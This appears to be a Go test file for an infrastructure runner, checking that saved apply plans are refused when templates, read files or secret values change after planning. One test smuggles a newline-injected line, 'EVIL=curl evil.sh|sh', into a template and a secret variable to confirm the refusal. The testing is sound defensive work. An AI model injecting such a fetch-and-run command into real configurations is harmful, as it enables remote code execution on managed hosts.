package runner

import (
	"os"
	"strings"
	"testing"
)

// TestSavedPlanSecretSmuggle: text hidden inside a function of a secret
// (format("%s\nEVIL=...", var.token)) changes what apply would write; the
// steps digest covers content in clear (keyed), so the plan is refused.
func TestSavedPlanSecretSmuggle(t *testing.T) {
	w := newWorld(t, `
variable "token" {
  type      = string
  sensitive = true
}

task "template" "env" {
  source = "app.env.tpl"
  path   = "${var.root}/out.env"
  mode   = "0600"
}
`, localInventory("h1"))
	w.write("app.env.tpl", "MODE=prod\nTOKEN=${var.token}\n")
	env := []string{"CLAWRUN_VAR_token=tok-abcdef-123456"}
	pf := w.planOut(runOpts{environ: env})
	w.write("app.env.tpl", "MODE=prod\nTOKEN=${format(\"%s\\nEVIL=curl evil.sh|sh\", var.token)}\n")
	res := w.run(runOpts{apply: true, replay: pf, environ: env})
	if res.code == 0 || w.exists("out.env") {
		t.Fatalf("apply of a plan whose template changed inside a secret: exit %d, wrote %q\n%s", res.code, w.read("out.env"), res.text)
	}
	if !strings.Contains(res.err+res.all(), "changed since the plan was made") {
		t.Errorf("no clear refusal:\n%s", res.all())
	}
	// The same through the sensitive variable, supplied again at apply:
	// the steps digest, not the files', refuses it.
	evil := []string{"CLAWRUN_VAR_token=tok-abcdef-123456\nEVIL=curl evil.sh|sh"}
	w.write("app.env.tpl", "MODE=prod\nTOKEN=${var.token}\n")
	pf = w.planOut(runOpts{environ: env})
	res = w.run(runOpts{apply: true, replay: pf, environ: evil})
	if res.code == 0 || w.exists("out.env") {
		t.Fatalf("apply with another secret value: exit %d, wrote %q\n%s", res.code, w.read("out.env"), res.text)
	}
	if !strings.Contains(res.all(), "would now do other than the saved plan says") {
		t.Errorf("no clear refusal:\n%s", res.all())
	}
}

// TestSavedPlanSensitiveRandomApplies: a plan with a sensitive random_hex
// (drawn anew at apply) still applies.
func TestSavedPlanSensitiveRandomApplies(t *testing.T) {
	w := newWorld(t, `
task "file" "token" {
  path    = "${var.root}/token"
  content = "TOKEN=${sensitive(random_hex(16))}\n"
  mode    = "0600"
}
`, localInventory("h1"))
	pf := w.planOut(runOpts{})
	res := w.applyPlan(pf)
	if res.code != 0 || !strings.HasPrefix(w.read("token"), "TOKEN=") {
		t.Fatalf("apply: exit %d %s\n%s", res.code, res.err, res.text)
	}
}

// TestSavedPlanControllerFiles: every controller file the playbook reads
// (source, template, file(), templatefile()) is in the plan by keyed
// digest; editing any of them refuses the whole plan before any host.
func TestSavedPlanControllerFiles(t *testing.T) {
	book := `
task "file" "src" {
  path   = "${var.root}/src"
  source = "src.txt"
}
task "template" "tpl" {
  source = "t.tpl"
  path   = "${var.root}/tpl"
}
task "file" "fn" {
  path    = "${var.root}/fn"
  content = "${file("f.txt")}${templatefile("tf.tpl", {})}"
}
`
	for _, edited := range []string{"src.txt", "t.tpl", "f.txt", "tf.tpl"} {
		t.Run(edited, func(t *testing.T) {
			w := newWorld(t, book, localInventory("h1"))
			for _, f := range []string{"src.txt", "t.tpl", "f.txt", "tf.tpl"} {
				w.write(f, "v1 "+f+"\n")
			}
			pf := w.planOut(runOpts{})
			raw, _ := os.ReadFile(pf)
			if strings.Contains(string(raw), "v1 ") {
				t.Fatalf("the plan file holds a file's content:\n%s", raw)
			}
			w.write(edited, "v2 "+edited+"\n")
			res := w.run(runOpts{apply: true, replay: pf})
			if res.code == 0 || !strings.Contains(res.err, edited+", which the playbook reads, changed") {
				t.Fatalf("edit of %s: exit %d err %q\n%s", edited, res.code, res.err, res.text)
			}
			if w.exists("src") || w.exists("tpl") || w.exists("fn") {
				t.Error("something was applied")
			}
		})
	}
}
